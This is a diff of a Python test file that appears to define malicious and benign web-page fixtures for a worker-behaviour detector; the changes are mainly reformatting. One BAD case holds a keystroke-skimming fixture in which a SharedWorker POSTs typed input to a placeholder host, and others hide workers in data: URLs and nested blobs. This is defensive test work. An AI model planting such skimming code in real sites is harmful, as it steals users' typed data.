@@ -27,7 +27,7 @@ if(!/native code/.test(Worker.toString())||!(w instanceof Worker))document.title
 SHARED = f"""const s=new SharedWorker("/partage.js");s.port.onmessage={SAYS};s.port.start();s.port.postMessage("ok")"""
 BLOB = f"""const b=new Worker(URL.createObjectURL(new Blob(["onmessage=e=>postMessage(e.data+1)"],{{type:"text/javascript"}})));
 b.onmessage={SAYS};b.postMessage(41)"""
-NESTED = "new Worker(URL.createObjectURL(new Blob(['%s'])))" % OFFSCREEN.replace("\n", "")
+NESTED = f"new Worker(URL.createObjectURL(new Blob(['{OFFSCREEN.replace(chr(10), '')}'])))"
 #: A page that changes the language before its workers begin.
 CHANGED = 'Map.prototype.get=()=>{throw 1};String.prototype.slice=()=>"";JSON.stringify=()=>"[]";'
 
@@ -61,7 +61,12 @@ BAD: tuple[Case, ...] = (
         "worker-shared-keystrokes",
         "keystrokes-sent",
         OTHER,
-        pages={"/w.js": Reply(f'onconnect=c=>{{c.ports[0].onmessage=e=>fetch("{TO}/k",{{method:"POST",mode:"no-cors",body:e.data}})}}', SCRIPT)},
+        pages={
+            "/w.js": Reply(
+                f'onconnect=c=>{{c.ports[0].onmessage=e=>fetch("{TO}/k",{{method:"POST",mode:"no-cors",body:e.data}})}}',
+                SCRIPT,
+            )
+        },
         home=FIELD
         + script(
             'const s=new SharedWorker("/w.js");s.port.start();document.getElementById("p").addEventListener("input",e=>{if(e.target.value.length>10)s.port.postMessage(e.target.value)})'
@@ -78,7 +83,9 @@ BAD: tuple[Case, ...] = (
         ),
     ),
     # What cannot be watched is said, and passes nothing.
-    bad("worker-of-data", UNSEEN, home=script(f"new Worker('data:text/javascript,'+encodeURIComponent(`{OFFSCREEN}`))")),
+    bad(
+        "worker-of-data", UNSEEN, home=script(f"new Worker('data:text/javascript,'+encodeURIComponent(`{OFFSCREEN}`))")
+    ),
     bad(
         "worker-hidden-in-a-worker",
         UNSEEN,
@@ -104,7 +111,11 @@ GOOD: tuple[Case, ...] = (
     good("worker-blob-honest", home=script(BLOB)),
     good(
         "worker-service-honest",
-        pages={"/sw.js": Reply('self.addEventListener("install",e=>e.waitUntil(caches.open("v1").then(c=>c.add("/"))))', SCRIPT)},
+        pages={
+            "/sw.js": Reply(
+                'self.addEventListener("install",e=>e.waitUntil(caches.open("v1").then(c=>c.add("/"))))', SCRIPT
+            )
+        },
         home=script('navigator.serviceWorker.register("/sw.js")'),
     ),
 )
